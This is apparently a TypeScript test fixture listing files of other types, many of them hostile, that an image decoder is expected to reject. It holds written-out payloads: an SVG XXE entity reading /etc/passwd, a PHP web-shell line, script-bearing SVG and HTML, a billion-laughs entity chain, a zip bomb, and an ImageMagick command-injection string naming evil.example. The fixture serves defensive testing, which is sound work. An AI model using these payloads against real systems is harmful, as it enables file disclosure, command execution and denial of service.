import { gzipSync } from 'node:zlib'
import { type HostileFile, text, SECRET, SCRIPT } from './hostile-file.ts'
import { createNoise, PNG_HEAD } from './picture-bytes.ts'

/** Files of other types under any name; the decoder must not open them. */
export function foreignFiles(): HostileFile[] {
  const kinds: readonly (readonly [string, Buffer])[] = [
    ['an empty file', Buffer.alloc(0)],
    ['one byte', text('x')],
    ['a text', text(SECRET)],
    ['a page of HTML', text(`<!doctype html><body>${SCRIPT}`)],
    [
      'an SVG',
      text(`<svg xmlns="http://www.w3.org/2000/svg" width="400" height="400"><rect width="400" height="400"/></svg>`),
    ],
    [
      'an SVG with a script',
      text(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="400" height="400">${SCRIPT}</svg>`),
    ],
    [
      'an SVG that reads a file',
      text(
        `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg" width="400" height="400"><text>&x;</text></svg>`,
      ),
    ],
    [
      'an SVG that loads from elsewhere',
      text(
        `<svg xmlns="http://www.w3.org/2000/svg" width="400" height="400"><image href="http://127.0.0.1:1/${SECRET}"/></svg>`,
      ),
    ],
    ['a pressed SVG', gzipSync(`<svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`)],
    [
      'a billion laughs',
      text(
        `<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><l>&c;</l>`,
      ),
    ],
    ['a zip', text(`PK\u0003\u0004\u0014\u0000${SECRET}`)],
    ["a zip bomb's outside", gzipSync(Buffer.alloc(20_000_000))],
    ['a PDF', text(`%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj ${SECRET}`)],
    ['a program of Windows', text(`MZ\u0090\u0000${SECRET}`)],
    ['a program of Linux', text(`\x7fELF\u0002\u0001${SECRET}`)],
    ['a shell script', text(`#!/bin/sh\ntouch /tmp/${SECRET}`)],
    ['a PHP page', text(`<?php system($_GET['x']); /* ${SECRET} */ ?>`)],
    ['JavaScript', text(`alert('${SECRET}')`)],
    ['a GIF', text('GIF87a\u0001\u0000\u0001\u0000\u0000\u0000\u0000;')],
    ['a GIF that is JavaScript', text(`GIF89a/*\u0000\u0000*/=1;alert('${SECRET}')`)],
    ['a BMP', text(`BM\u0036\u0000\u0000\u0000${SECRET}`)],
    ['a HEIC', text(`\u0000\u0000\u0000\u0018ftypheic\u0000\u0000\u0000\u0000${SECRET}`)],
    ['an icon', text(`\u0000\u0000\u0001\u0000\u0001\u0000${SECRET}`)],
    ['a film', text(`\u0000\u0000\u0000\u0020ftypisom${SECRET}`)],
    ['music', text(`ID3\u0004\u0000${SECRET}`)],
    ['a JPEG 2000', text(`\u0000\u0000\u0000\u000cjP  \r\n\x87\n${SECRET}`)],
    ['a JPEG XL', text(`\xff\u000a${SECRET}`)],
    ['a Photoshop file', text(`8BPS\u0000\u0001${SECRET}`)],
    [
      'drawing commands of ImageMagick',
      text(`push graphic-context\nimage over 0,0 0,0 'https://evil.example/"|touch /tmp/${SECRET}'`),
    ],
    ['PostScript', text(`%!PS\n(${SECRET}) run`)],
    ['a picture of high range', text(`#?RADIANCE\n-Y 50000 +X 50000\n${SECRET}`)],
    ["a telescope's picture", text(`SIMPLE  =                    T ${SECRET}`)],
    ['a plain pixmap of 50,000 points a side', text(`P6\n50000 50000\n255\n${SECRET}`)],
    ['a BigTIFF', text(`II+\u0000\u0008\u0000\u0000\u0000${SECRET}`)],
    ['noise', createNoise(65_536)],
    ['a megabyte of nothing', Buffer.alloc(1_000_000)],
    ['the beginning of a JPEG without the rest', Buffer.from([0xff, 0xd8, 0xff])],
    ["a JPEG's beginning before HTML", Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), text(SCRIPT)])],
    ["a PNG's beginning before a zip", Buffer.concat([PNG_HEAD, text(`PK\u0003\u0004${SECRET}`)])],
    ["a WebP's beginning before noise", Buffer.concat([text('RIFF\xff\xff\xff\x7fWEBP'), createNoise(500)])],
  ]
  return kinds.map(([name, bytes]) => ({ name, bytes, fate: '915' }))
}
